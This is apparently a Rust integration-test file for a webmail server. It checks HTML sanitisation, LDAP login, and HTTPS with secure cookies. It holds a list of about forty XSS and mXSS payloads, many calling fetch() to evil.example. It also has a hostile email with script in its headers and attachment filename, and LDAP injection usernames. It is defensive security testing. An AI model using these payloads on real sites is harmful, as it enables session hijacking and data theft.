    assert_eq!(r["dialogs"], serde_json::json!([]));
    let backends: Vec<(String, String)> = audit_lines(dir.path())
        .into_iter()
        .filter(|e| e["action"] == "login")
        .map(|e| {
            (
                e["user"].as_str().unwrap().to_string(),
                e["detail"]["backend"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        backends,
        [
            ("bob", "imap"),
            ("alice", "ldap"),
            ("audit", "local"),
            ("admin", "local")
        ]
        .map(|(u, b)| (u.to_string(), b.to_string()))
    );
    serve.stop();
}

/// Hostile HTML: each tries to run a script (which would set `__pwned` and
/// fetch from evil.example) or to load something from elsewhere.
const HOSTILE: &[(&str, &str)] = &[
    ("script", "<script>window.__pwned=1;fetch('http://evil.example/script')</script>"),
    ("img onerror", "<img src=x onerror=\"window.__pwned=1;fetch('http://evil.example/onerror')\">"),
    ("body onload", "<body onload=\"window.__pwned=1;fetch('http://evil.example/onload')\">x</body>"),
    ("javascript link", "<a href=\"javascript:window.__pwned=1\">click</a>"),
    ("data link", "<a href=\"data:text/html,<script>fetch('http://evil.example/data')</script>\">x</a>"),
    ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/meta\">"),
    ("base", "<base href=\"http://evil.example/\"><img src=\"rel.png\"><a href=\"rel\">r</a>"),
    ("form", "<form action=\"http://evil.example/form\" method=post><input name=a value=b><button>go</button></form>"),
    ("style import", "<style>@import url(http://evil.example/import.css);</style>hi"),
    ("style attribute url", "<div style=\"background:url(http://evil.example/bg.png)\">x</div>"),
    ("style element url", "<style>body{background:url('http://evil.example/style-bg')}</style>x"),
    ("font-face", "<style>@font-face{font-family:x;src:url(http://evil.example/font.woff)}p{font-family:x}</style><p>x</p>"),
    ("svg script", "<svg><script>window.__pwned=1;fetch('http://evil.example/svg-script')</script></svg>"),
    ("svg onload", "<svg onload=\"window.__pwned=1;fetch('http://evil.example/svg-onload')\"></svg>"),
    ("svg image", "<svg><image href=\"http://evil.example/svg-image.png\"/></svg>"),
    ("iframe", "<iframe src=\"http://evil.example/frame\"></iframe>"),
    ("iframe srcdoc", "<iframe srcdoc=\"<script>parent.__pwned=1;fetch('http://evil.example/srcdoc')</script>\"></iframe>"),
    ("object", "<object data=\"http://evil.example/object\"></object>"),
    ("embed", "<embed src=\"http://evil.example/embed\">"),
    ("link stylesheet", "<link rel=stylesheet href=\"http://evil.example/link.css\">x"),
    ("video", "<video src=\"http://evil.example/v.mp4\" autoplay></video><audio src=\"http://evil.example/a.mp3\" autoplay></audio>"),
    ("remote image", "<img src=\"http://evil.example/track.gif\" width=1 height=1>"),
    ("srcset", "<img srcset=\"http://evil.example/srcset.png 1x\">"),
    ("picture", "<picture><source srcset=\"http://evil.example/picture.png\"><img alt=p></picture>"),
    ("mxss svg style", "<p><svg><p><style><img src=x onerror=\"window.__pwned=1;fetch('http://evil.example/mxss1')\"></style></p></svg></p>"),
    ("noscript title", "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1;fetch('http://evil.example/noscript')>\"></noscript>"),
    ("math mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('http://evil.example/mglyph')\">"),
    ("table background", "<table background=\"http://evil.example/table-bg.png\"><tr><td>x</td></tr></table>"),
    ("input image", "<input type=image src=\"http://evil.example/input.png\">"),
    ("body background", "<body background=\"http://evil.example/body-bg.png\">x</body>"),
    ("ping", "<a ping=\"http://evil.example/ping\" href=\"https://ok.example/\">ok</a>"),
    ("onmouseover", "<div onmouseover=\"window.__pwned=1;fetch('http://evil.example/hover')\">hover me</div>"),
    ("split script", "<scr<script>ipt>window.__pwned=1</scr</script>ipt>"),
    ("mixed case javascript", "<IMG SRC=JaVaScRiPt:window.__pwned=1><a href=\"JaVaScRiPt:window.__pwned=1\">j</a>"),
    ("entity javascript", "<a href=\"&#106;avascript:window.__pwned=1\">e</a>"),
    ("xmp", "<xmp><script>window.__pwned=1</script></xmp>"),
    ("template", "<template><script>window.__pwned=1</script></template>"),
    ("details ontoggle", "<details open ontoggle=\"window.__pwned=1;fetch('http://evil.example/toggle')\">d</details>"),
    ("formaction", "<button formaction=\"http://evil.example/formaction\">b</button>"),
    ("css expression", "<div style=\"width:expression(window.__pwned=1)\">x</div>"),
];

fn hostile_message(name: &str, html: &str) -> String {
    format!(
        "From: \"<img src=x onerror=window.__pwned=1>\" <mallory@ext.example>\r\nTo: carol@example.com\r\n\
         Subject: {name} <script>window.__pwned=1</script>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"h\"\r\n\r\n--h\r\n\
         Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--h\r\n\
         Content-Type: text/plain; name=\"<svg onload=alert(1)>.html\"\r\n\
         Content-Disposition: attachment; filename=\"\\\"><script>alert(1)</script>.html\"\r\n\r\n\
         <script>alert(1)</script>\r\n--h--\r\n"
    )
}

#[test]
fn web_hostile_html_runs_nothing_and_loads_nothing_in_a_real_browser() {
    let dir = sandbox();
    let port = crate::util::free_port();
    let cfg = fixture(dir.path(), port, "");
    let mut vectors = Vec::new();
    for (i, (name, html)) in HOSTILE.iter().enumerate() {
        let out = pipe(
            &cfg,
            &[
                "--sender=mallory@ext.example",
                "--recipient=carol@example.com",
            ],
            hostile_message(name, html).as_bytes(),
        );
        assert!(out.status.success());
        vectors.push(serde_json::json!({"name": name, "id": 5 + i}));
    }
    // A Content-Type lie: HTML declared as text/plain is shown as text.
    let lie = "From: mallory@ext.example\r\nTo: carol@example.com\r\nSubject: lie\r\n\
               Content-Type: text/plain\r\n\r\n<script>window.__pwned=1;fetch('http://evil.example/lie')</script>\r\n";
    assert!(pipe(
        &cfg,
        &[
            "--sender=mallory@ext.example",
            "--recipient=carol@example.com"
        ],
        lie.as_bytes()
    )
    .status
    .success());
    vectors.push(serde_json::json!({"name": "content-type lie", "id": 5 + HOSTILE.len()}));
    assert!(vectors.len() >= 30);
    let extra = String::new();
    let mut serve = Serve::start_on(
        dir.path(),
        port,
        |p| config(dir.path(), p, &extra),
        &["web interface listening"],
        false,
    );
    let site = Site::new(port);
    let r = browser(
        "hostile",
        &site,
        dir.path(),
        &serde_json::json!({"user": {"user": "carol", "password": PASSWORD}, "vectors": vectors}),
    );
    let results = r["vectors"].as_array().unwrap();
    assert_eq!(results.len(), vectors.len());
    for v in results {
        for part in ["page", "body.html"] {
            let p = &v[part];
            assert!(p.get("error").is_none(), "{}: {v}", v["name"]);
            assert_eq!(
                p["pwned"],
                serde_json::json!([]),
                "{}: a script ran: {v}",
                v["name"]
            );
        }
        assert_eq!(v["page"]["status"], 200, "{v}");
        assert!(
            v["page"]["frames"].as_u64().unwrap() <= 2,
            "{}: a frame of its own: {v}",
            v["name"]
        );
    }
    let searches = r["search_pages"].as_array().unwrap();
    assert_eq!(searches.len(), 4, "{r}");
    for s in searches {
        assert_eq!(s["status"], 200, "a search page: {s}");
        assert_eq!(
            s["pwned"],
            serde_json::json!([]),
            "a search page ran a script: {s}"
        );
    }
    assert_eq!(
        r["foreign_requests"],
        serde_json::json!([]),
        "requests left for other hosts"
    );
    assert_eq!(r["dialogs"], serde_json::json!([]));
    // The page shows the hostile subject as text.
    let carol = site.login("carol");
    let page = site.get(Some(&carol), "/messages/5").text();
    assert!(page.contains("&lt;script&gt;window.__pwned=1&lt;/script&gt;"));
    assert!(!page.contains("<script"));
    // So do the results, the words searched for marked, snippets escaped.
    let page = site.get(Some(&carol), "/?q=script").text();
    assert!(
        page.contains("&lt;<mark>script</mark>&gt;window.__pwned=1&lt;/<mark>script</mark>&gt;"),
        "{page}"
    );
    assert!(page.contains(r#"<div class="snippet">"#), "{page}");
    assert!(
        !page.contains("<script") && !page.contains("<img"),
        "{page}"
    );
    serve.stop();
}

/// A private slapd on 127.0.0.1 with `dc=example,dc=com` and, under
/// `ou=people`, one inetOrgPerson per (uid, password, mail addresses).
pub struct Slapd {
    pid: Option<u32>,
    pub port: u16,
}

impl Slapd {
    pub fn start(dir: &Path, people: &[(&str, &str, &[&str])]) -> Slapd {
        let port = crate::util::free_port();
        std::fs::create_dir_all(dir.join("db")).unwrap();
        let d = dir.display();
        std::fs::write(
            dir.join("slapd.conf"),
            format!(
                "include /etc/ldap/schema/core.schema\ninclude /etc/ldap/schema/cosine.schema\n\
                 include /etc/ldap/schema/inetorgperson.schema\npidfile {d}/slapd.pid\nargsfile {d}/slapd.args\n\
                 modulepath /usr/lib/ldap\nmoduleload back_mdb\ndatabase mdb\nmaxsize 10485760\n\
                 suffix \"dc=example,dc=com\"\nrootdn \"cn=admin,dc=example,dc=com\"\nrootpw admin-secret\n\
                 directory {d}/db\naccess to attrs=userPassword by anonymous auth by self read by * none\n\
                 access to * by * read\n"
            ),
        )
        .unwrap();
        let out = std::process::Command::new("/usr/sbin/slapd")
            .arg("-f")
            .arg(dir.join("slapd.conf"))
            .args(["-h", &format!("ldap://127.0.0.1:{port}/")])
            .output()
            .expect("slapd (scripts/test installs it)");
        assert!(
            out.status.success(),
            "slapd: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        let pid = loop {
            if let Some(pid) = std::fs::read_to_string(dir.join("slapd.pid"))
                .ok()
                .and_then(|p| p.trim().parse().ok())
            {
                if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
                    break pid;
                }
            }
            assert!(std::time::Instant::now() < deadline, "slapd did not start");
            std::thread::sleep(std::time::Duration::from_millis(50));
        };
        let mut ldif = String::from(
            "dn: dc=example,dc=com\nobjectClass: dcObject\nobjectClass: organization\no: Example\ndc: example\n\n\
             dn: ou=people,dc=example,dc=com\nobjectClass: organizationalUnit\nou: people\n\n",
        );
        for (uid, password, mails) in people {
            ldif.push_str(&format!(
                "dn: uid={uid},ou=people,dc=example,dc=com\nobjectClass: inetOrgPerson\nuid: {uid}\ncn: {uid}\nsn: {uid}\nuserPassword: {password}\n"
            ));
            for m in *mails {
                ldif.push_str(&format!("mail: {m}\n"));
            }
            ldif.push('\n');
        }
        std::fs::write(dir.join("people.ldif"), ldif).unwrap();
        let out = std::process::Command::new("ldapadd")
            .args([
                "-x",
                "-H",
                &format!("ldap://127.0.0.1:{port}"),
                "-D",
                "cn=admin,dc=example,dc=com",
                "-w",
                "admin-secret",
                "-f",
            ])
            .arg(dir.join("people.ldif"))
            .output()
            .expect("ldapadd (ldap-utils)");
        assert!(
            out.status.success(),
            "ldapadd: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        Slapd {
            pid: Some(pid),
            port,
        }
    }
}

impl Drop for Slapd {
    fn drop(&mut self) {
        if let Some(pid) = self.pid.take() {
            let _ = std::process::Command::new("kill")
                .arg(pid.to_string())
                .status();
        }
    }
}

#[test]
fn web_login_through_a_real_slapd_by_dn_template_and_by_search() {
    let dir = sandbox();
    let slapd = Slapd::start(
        &dir.path().join("ldap"),
        &[
            (
                "dave",
                "dave's ldap password",
                &["Dave@example.com", "d.alias@example.com"],
            ),
            ("bob", "bob's ldap password", &["bob@example.com"]),
        ],
    );
    let template = format!(
        "auth = \"ldap://127.0.0.1:{}\"\n[web.ldap]\nbind_dn = \"uid={{user}},ou=people,dc=example,dc=com\"\n",
        slapd.port
    );
    let (mut serve, site) = start(dir.path(), &template);
    // dave's addresses come from the directory's mail values.
    let r = site.login_reply("dave", "dave's ldap password");
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(
        r.json()["addresses"],
        serde_json::json!(["d.alias@example.com", "dave@example.com"])
    );
    let dave = Login {
        cookie: r
            .header("set-cookie")
            .split(';')
            .next()
            .unwrap()
            .to_string(),
        csrf: String::new(),
    };
    assert_eq!(site.ids(&dave, ""), BTreeSet::from([1]));
    assert_eq!(site.login_reply("dave", "wrong").status, 401);
    assert_eq!(
        site.login_reply("dave", "").status,
        401,
        "an empty password is an anonymous bind"
    );
    // A name that tries to reach into the DN is escaped and fails.
    assert_eq!(
        site.login_reply("bob,ou=people", "bob's ldap password")
            .status,
        401
    );
    assert_eq!(site.login_reply("nobody", "x").status, 401);
    serve.stop();

    // Search mode: the filter finds the entry; a wildcard is a literal.
    let search = format!(
        "auth = [\"ldap://127.0.0.1:{}\"]\n[web.ldap]\nbase = \"ou=people,dc=example,dc=com\"\nfilter = \"(&(objectClass=inetOrgPerson)(uid={{user}}))\"\n",
        slapd.port
    );
    let dir2 = sandbox();
    let (mut serve, site) = start(dir2.path(), &search);
    let r = site.login_reply("bob", "bob's ldap password");
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(
        r.json()["addresses"],
        serde_json::json!(["bob@example.com"])
    );
    assert_eq!(site.login_reply("*", "bob's ldap password").status, 401);
    assert_eq!(site.login_reply("b*", "bob's ldap password").status, 401);
    let backends: Vec<Value> = audit_lines(dir2.path())
        .into_iter()
        .filter(|e| e["action"] == "login")
        .map(|e| e["detail"]["backend"].clone())
        .collect();
    assert_eq!(backends, [serde_json::json!("ldap")]);
    // With the directory gone: 503, not "wrong password".
    drop(slapd);
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(site.login_reply("bob", "bob's ldap password").status, 503);
    serve.stop();
}

/// A self-signed certificate for localhost and 127.0.0.1 (openssl).
fn self_signed(dir: &Path) -> (std::path::PathBuf, std::path::PathBuf) {
    let (cert, key) = (dir.join("web-cert.pem"), dir.join("web-key.pem"));
    let made = std::process::Command::new("openssl")
        .args([
            "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
        ])
        .args(["-subj", "/CN=localhost"])
        .args(["-addext", "subjectAltName=DNS:localhost,IP:127.0.0.1"])
        .arg("-keyout")
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .stderr(std::process::Stdio::null())
        .status()
        .expect("openssl");
    assert!(made.success());
    (cert, key)
}

#[test]
fn web_serves_https_with_its_own_certificate_and_secure_cookies() {
    let dir = sandbox();
    let (cert, key) = self_signed(dir.path());
    let extra = format!(
        "tls_cert = \"{}\"\ntls_key = \"{}\"",
        cert.display(),
        key.display()
    );
    let (_serve, site) = start(dir.path(), &extra);
    // A client that connects and says nothing holds up nobody.
    let _silent = std::net::TcpStream::connect(("127.0.0.1", site.port)).unwrap();
    // Python's ssl module verifies the certificate against it as the CA;
    // offered h2 and HTTP/1.1, the server picks what it speaks.
    let out = crate::util::python(
        "import http.client, json, ssl, sys\n\
         ctx = ssl.create_default_context(cafile=sys.argv[1])\n\
         ctx.set_alpn_protocols(['h2', 'http/1.1'])\n\
         c = http.client.HTTPSConnection('localhost', int(sys.argv[2]), context=ctx, timeout=20)\n\
         c.request('POST', '/api/session', body=json.dumps({'user': 'bob', 'password': sys.argv[3]}),\n\
         \x20         headers={'Content-Type': 'application/json'})\n\
         r = c.getresponse(); r.read()\n\
         cookie = r.getheader('Set-Cookie')\n\
         c.request('GET', '/api/search?q=quarterly', headers={'Cookie': cookie.split(';')[0]})\n\
         s = c.getresponse(); body = json.loads(s.read())\n\
         print(json.dumps({'login': r.status, 'cookie': cookie, 'search': s.status,\n\
         \x20   'subjects': [h['subject'] for h in body['results']],\n\
         \x20   'version': c.sock.version(), 'alpn': c.sock.selected_alpn_protocol()}))\n",
        &[
            cert.to_str().unwrap(),
            &site.port.to_string(),
            PASSWORD,
        ],
    );
    let got: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(got["login"], 200, "{got}");
    let cookie = got["cookie"].as_str().unwrap();
    for attribute in ["Secure", "HttpOnly", "SameSite=Strict"] {
        assert!(cookie.contains(attribute), "{cookie}");
    }
    assert_eq!(got["search"], 200);
    assert_eq!(got["subjects"], serde_json::json!(["quarterly numbers"]));
    assert!(
        got["version"].as_str().unwrap().starts_with("TLSv1."),
        "{got}"
    );
    assert_eq!(got["alpn"], "http/1.1");
    // Plain HTTP on the HTTPS port gets nothing.
    let plain = agent()
        .get(format!("http://127.0.0.1:{}/login", site.port))
        .call();
    assert!(
        plain.as_ref().map_or(true, |r| r.status() != 200),
        "{plain:?}"
    );
    // And a certificate the client does not trust is refused by it.
    let other = dir.path().join("other");
    std::fs::create_dir(&other).unwrap();
    let (other_cert, _) = self_signed(&other);
    let refused = std::process::Command::new("python3")
        .arg("-c")
        .arg(
            "import http.client, ssl, sys\n\
             ctx = ssl.create_default_context(cafile=sys.argv[1])\n\
             c = http.client.HTTPSConnection('localhost', int(sys.argv[2]), context=ctx, timeout=20)\n\
             c.request('GET', '/login')\n",
        )
        .arg(&other_cert)
        .arg(site.port.to_string())
        .output()
        .unwrap();
    assert!(!refused.status.success());
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("CERTIFICATE_VERIFY_FAILED"),
        "{}",
        String::from_utf8_lossy(&refused.stderr)
    );
}
